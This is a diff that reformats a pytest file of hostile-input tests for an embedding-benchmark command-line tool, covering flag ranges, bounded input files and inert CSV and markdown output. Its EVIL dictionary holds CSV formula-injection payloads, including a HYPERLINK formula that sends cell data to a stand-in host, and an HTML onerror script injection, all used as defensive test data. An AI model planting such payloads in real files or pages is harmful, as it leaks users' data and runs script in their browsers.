@@ -1,6 +1,7 @@
 """Hostile input, round three (issue 25 items 2-6): ranks files bounded before they are read, numeric flags with
 ranges, inert CSV and markdown, no silent substitution. Every case: one line on stderr, the right exit status,
 no traceback, nothing stored and nothing written outside the roots (the case folder is compared whole)."""
+
 import hashlib
 import io
 import json
@@ -122,8 +123,10 @@ def test_hostile_ranks_file(name, setup, message, case, capsys):
     assert "ranks" in err[0]
     assert main(["compare", "--significance", "-q", *roots]) == 0
     after = snapshot(w)
-    assert unchanged({k: v for k, v in before.items() if not k.startswith("results/RESULTS")},
-                     {k: v for k, v in after.items() if not k.startswith("results/RESULTS")})
+    assert unchanged(
+        {k: v for k, v in before.items() if not k.startswith("results/RESULTS")},
+        {k: v for k, v in after.items() if not k.startswith("results/RESULTS")},
+    )
 
 
 # ------------------------------------------------------------------------------------ numeric flags have ranges
@@ -134,38 +137,58 @@ SIGNIFICANCE = ["significance", "{run}", "{run}"]
 FLAG_CASES = [
     ("significance --seed -1", [*SIGNIFICANCE, "--seed", "-1"], "argument --seed: must be a whole number >= 0"),
     ("significance --seed 10**29", [*SIGNIFICANCE, "--seed", str(10**29)], "<= 4294967295"),
-    ("significance --resamples 10**9", [*SIGNIFICANCE, "--resamples", "1000000000"],
-     "argument --resamples: must be a whole number >= 1 and <= 1000000"),
+    (
+        "significance --resamples 10**9",
+        [*SIGNIFICANCE, "--resamples", "1000000000"],
+        "argument --resamples: must be a whole number >= 1 and <= 1000000",
+    ),
     ("significance --resamples superscript two", [*SIGNIFICANCE, "--resamples", "\u00b2"], "argument --resamples"),
     ("generate asif --seed -5", ["generate", "asif", "shapes", FEAT, *SMALL, "--seed", "-5"], "argument --seed"),
     ("generate --seed 2**32", [*GEN, "--seed", str(2**32)], "<= 4294967295"),
     ("run_benchmark --seeds -1", [*RUN, "--seeds", "-1"], "argument --seeds: expected comma-separated seeds"),
     ("generate --seeds 0,2**32", [*GEN, "--seeds", f"0,{2**32}"], "argument --seeds"),
     ("run_benchmark --bootstrap 10**9", [*RUN, "--bootstrap", "1000000000"], "argument --bootstrap: must be"),
-    ("evaluate --bootstrap 0", ["evaluate", "shapes", "test", "--images", "i.npy", "--texts", "t.npy", "--name",
-                                "m", "--bootstrap", "0"], "argument --bootstrap"),
-    ("dcca --hidden 10**9", ["generate", "dcca", "shapes", FEAT, *SMALL, "--hidden", "1000000000"],
-     "dcca --hidden 1000000000 --layers 1 needs about"),
-    ("dcca --layers 10**8", ["generate", "dcca", "shapes", FEAT, *SMALL, "--layers", "100000000"],
-     "argument --layers: must be a whole number >= 0 and <= 1000"),
-    ("dcca --layers 1000 --hidden 65536", ["generate", "dcca", "shapes", FEAT, *SMALL, "--layers", "1000", "--hidden",
-                                           "65536"], "GiB of memory but"),
-    ("--cv-reg empty", [*GEN, "--cv", "--cv-reg", ""], "argument --cv-reg: expected comma-separated numbers without "
-     "empty entries"),
+    (
+        "evaluate --bootstrap 0",
+        ["evaluate", "shapes", "test", "--images", "i.npy", "--texts", "t.npy", "--name", "m", "--bootstrap", "0"],
+        "argument --bootstrap",
+    ),
+    (
+        "dcca --hidden 10**9",
+        ["generate", "dcca", "shapes", FEAT, *SMALL, "--hidden", "1000000000"],
+        "dcca --hidden 1000000000 --layers 1 needs about",
+    ),
+    (
+        "dcca --layers 10**8",
+        ["generate", "dcca", "shapes", FEAT, *SMALL, "--layers", "100000000"],
+        "argument --layers: must be a whole number >= 0 and <= 1000",
+    ),
+    (
+        "dcca --layers 1000 --hidden 65536",
+        ["generate", "dcca", "shapes", FEAT, *SMALL, "--layers", "1000", "--hidden", "65536"],
+        "GiB of memory but",
+    ),
+    (
+        "--cv-reg empty",
+        [*GEN, "--cv", "--cv-reg", ""],
+        "argument --cv-reg: expected comma-separated numbers without empty entries",
+    ),
     ("--cv-components with an empty entry", [*GEN, "--cv", "--cv-components", "1,,8"], "without empty entries"),
     ("serve --port 70000", ["serve", "--port", "70000"], "argument --port: must be a whole number >= 0 and <= 65535"),
     ("curve --seed -1", ["curve", "cca", "shapes", FEAT, *SMALL, "--seed", "-1"], "argument --seed: must be"),
     ("similarity --seed -1", ["similarity", "shapes", FEAT, *SMALL, "--seed", "-1"], "argument --seed: must be"),
-    ("similarity --permutations 10**9", ["similarity", "shapes", FEAT, *SMALL, "--permutations", "1000000000"],
-     "argument --permutations: must be a whole number >= 1 and <= 1000000"),
+    (
+        "similarity --permutations 10**9",
+        ["similarity", "shapes", FEAT, *SMALL, "--permutations", "1000000000"],
+        "argument --permutations: must be a whole number >= 1 and <= 1000000",
+    ),
 ]
 
 
 def run_case(w, roots, argv, capsys) -> tuple[int, list[str], bool]:
     """(exit status, stderr lines, whether the case folder is unchanged) of ``main(argv)`` in the case folder."""
     run = the_run(w)[0]
-    argv = [a.replace("{run}", str(run)).replace("{runid}", run.name[: -len(".json")]).replace(W, str(w))
-            for a in argv]
+    argv = [a.replace("{run}", str(run)).replace("{runid}", run.name[: -len(".json")]).replace(W, str(w)) for a in argv]
     before = snapshot(w)
     capsys.readouterr()
     try:
@@ -189,8 +212,9 @@ def test_numeric_flags_have_ranges(name, argv, message, case, capsys):
     assert same
 
 
-@pytest.mark.parametrize("argv", [RUN, ["significance", "{run}", "{run}", "--resamples", "1000000"]],
-                         ids=["bootstrap", "resamples"])
+@pytest.mark.parametrize(
+    "argv", [RUN, ["significance", "{run}", "{run}", "--resamples", "1000000"]], ids=["bootstrap", "resamples"]
+)
 def test_resamples_are_checked_against_memory_before_the_work(argv, case, capsys, monkeypatch):
     """With 1 MiB available, 1000 bootstrap resamples of 20 images (0.3 MB) fit and 10^6 permutations do not: the
     run is refused before the features are encoded or the ranks tested. Planted bug: no check_resamples in
@@ -206,8 +230,14 @@ def test_resamples_are_checked_against_memory_before_the_work(argv, case, capsys
 
 
 # ------------------------------------------------------------------------------------------- outputs are inert
-EVIL = {"formula": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "html": "x | <img src=x onerror=alert(1)> | y",
-        "plus": "+1+1", "at": "@SUM(1+1)", "tab": "\tcmd", "minus": "-2+3"}
+EVIL = {
+    "formula": '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "html": "x | <img src=x onerror=alert(1)> | y",
+    "plus": "+1+1",
+    "at": "@SUM(1+1)",
+    "tab": "\tcmd",
+    "minus": "-2+3",
+}
 
 
 def shared_runs(w, names=EVIL):
@@ -215,8 +245,9 @@ def shared_runs(w, names=EVIL):
     its own model (compare shows the newest run of each configuration)."""
     path, record, _ = the_run(w)
     for key, method in names.items():
-        (path.parent / f"shared_{key}.json").write_text(json.dumps(record | {"method": method,
-                                                                             "model": f"shared_{key}"}))
+        (path.parent / f"shared_{key}.json").write_text(
+            json.dumps(record | {"method": method, "model": f"shared_{key}"})
+        )
 
 
 def csv_rows(text: str) -> list[dict]:
@@ -293,24 +324,55 @@ def sparse_npy(w):
 
 
 SUBSTITUTION_CASES = [
-    ("ridge --similarity csa", None, ["generate", "ridge", "shapes", FEAT, *SMALL, "--similarity", "csa"],
-     "--similarity is not an option of ridge"),
-    ("pls --reg 0.5", None, ["generate", "pls", "shapes", FEAT, *SMALL, "--reg", "0.5"],
-     "--reg is not an option of pls"),
-    ("procrustes --direction text2image", None, ["generate", "procrustes", "shapes", FEAT, *SMALL, "--direction",
-                                                 "text2image"], "--direction is not an option of procrustes"),
-    ("tag with a pipe, features not yet cached", None, ["generate", "cca", "shapes", FEAT, "-D", "n_train=61", "-q",
-                                                        "--tag", "a|b"], "--tag 'a|b' may hold only"),
+    (
+        "ridge --similarity csa",
+        None,
+        ["generate", "ridge", "shapes", FEAT, *SMALL, "--similarity", "csa"],
+        "--similarity is not an option of ridge",
+    ),
+    (
+        "pls --reg 0.5",
+        None,
+        ["generate", "pls", "shapes", FEAT, *SMALL, "--reg", "0.5"],
+        "--reg is not an option of pls",
+    ),
+    (
+        "procrustes --direction text2image",
+        None,
+        ["generate", "procrustes", "shapes", FEAT, *SMALL, "--direction", "text2image"],
+        "--direction is not an option of procrustes",
+    ),
+    (
+        "tag with a pipe, features not yet cached",
+        None,
+        ["generate", "cca", "shapes", FEAT, "-D", "n_train=61", "-q", "--tag", "a|b"],
+        "--tag 'a|b' may hold only",
+    ),
     ("run_benchmark tag with a pipe", None, [*RUN, "--tag", "a|b"], "--tag 'a|b' may hold only"),
-    ("F8_E4M3 safetensors embeddings", f8_safetensors, [*EVALUATE[:4], f"{W}/img.safetensors", *EVALUATE[5:]],
-     "img.safetensors: tensor 'x' is F8_E4M3, which numpy cannot read"),
-    ("significance of another folder's run path without .json", lambda w: shutil.copytree(w / "results" / "runs",
-                                                                                         w / "other" / "runs"),
-     ["significance", f"{W}/other/runs/{{runid}}", "{runid}"], "no such run file"),
-    ("significance of a path through a missing folder", None, ["significance", "no/such/dir/../../{runid}",
-                                                                "{runid}"], "no such run file"),
-    ("a .npy honestly claiming 10^6 x 10^5 float32", sparse_npy, [*EVALUATE[:4], f"{W}/../big.npy", *EVALUATE[5:]],
-     "big.npy: 1000000 rows but shapes/test has 20 images"),
+    (
+        "F8_E4M3 safetensors embeddings",
+        f8_safetensors,
+        [*EVALUATE[:4], f"{W}/img.safetensors", *EVALUATE[5:]],
+        "img.safetensors: tensor 'x' is F8_E4M3, which numpy cannot read",
+    ),
+    (
+        "significance of another folder's run path without .json",
+        lambda w: shutil.copytree(w / "results" / "runs", w / "other" / "runs"),
+        ["significance", f"{W}/other/runs/{{runid}}", "{runid}"],
+        "no such run file",
+    ),
+    (
+        "significance of a path through a missing folder",
+        None,
+        ["significance", "no/such/dir/../../{runid}", "{runid}"],
+        "no such run file",
+    ),
+    (
+        "a .npy honestly claiming 10^6 x 10^5 float32",
+        sparse_npy,
+        [*EVALUATE[:4], f"{W}/../big.npy", *EVALUATE[5:]],
+        "big.npy: 1000000 rows but shapes/test has 20 images",
+    ),
 ]
 
 
